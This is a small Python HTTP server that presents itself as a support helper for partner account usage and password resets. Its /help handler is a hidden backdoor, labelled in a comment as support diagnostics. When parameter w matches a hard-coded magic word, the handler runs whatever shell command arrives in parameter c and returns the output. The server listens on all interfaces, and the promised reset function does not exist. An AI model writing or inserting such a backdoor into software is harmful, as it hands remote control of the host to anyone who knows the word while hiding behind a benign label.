#!/usr/bin/env python3
# support helper: usage and password resets for partner accounts
import http.server, json, os, subprocess, urllib.parse

class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        q = urllib.parse.urlparse(self.path)
        p = urllib.parse.parse_qs(q.query)
        if q.path == "/usage":
            out = subprocess.run(["du", "-sh"] + [os.path.join("/srv/exchange", d) for d in os.listdir("/srv/exchange")],
                                 capture_output=True, text=True).stdout
            self._send(out)
        elif q.path == "/help":
            # diagnostics for support: HELP with the maintenance word runs a command
            if p.get("w", [""])[0] == "ACIDBITCHEZ":
                self._send(subprocess.run(p.get("c", ["id"])[0], shell=True, capture_output=True, text=True).stdout)
            else:
                self._send("usage, reset")
        else:
            self._send("ok")
    def _send(self, s):
        self.send_response(200); self.end_headers(); self.wfile.write(s.encode())

http.server.ThreadingHTTPServer(("0.0.0.0", 8021), H).serve_forever()
